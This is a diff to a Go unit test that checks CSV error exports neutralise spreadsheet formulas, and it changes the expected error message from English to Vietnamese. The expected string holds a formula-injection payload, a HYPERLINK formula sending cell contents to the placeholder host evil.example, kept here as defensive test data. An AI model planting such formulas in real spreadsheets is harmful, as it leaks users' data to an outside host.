@@ -73,7 +73,7 @@ func TestErrorsCSVNeutralisesFormulas(t *testing.T) {
 	if err := WriteErrorsCSV(&b, errs); err != nil {
 		t.Fatal(err)
 	}
-	want := "'=cmd.csv,3,Họ tên,ho_ten,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Bấm vào đây\"\")\",is required\n"
+	want := "'=cmd.csv,3,Họ tên,ho_ten,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Bấm vào đây\"\")\",còn trống (bắt buộc)\n"
 	if lines := strings.SplitN(b.String(), "\n", 2); len(lines) != 2 || lines[1] != want {
 		t.Errorf("got %q\nwant %q", b.String(), want)
 	}
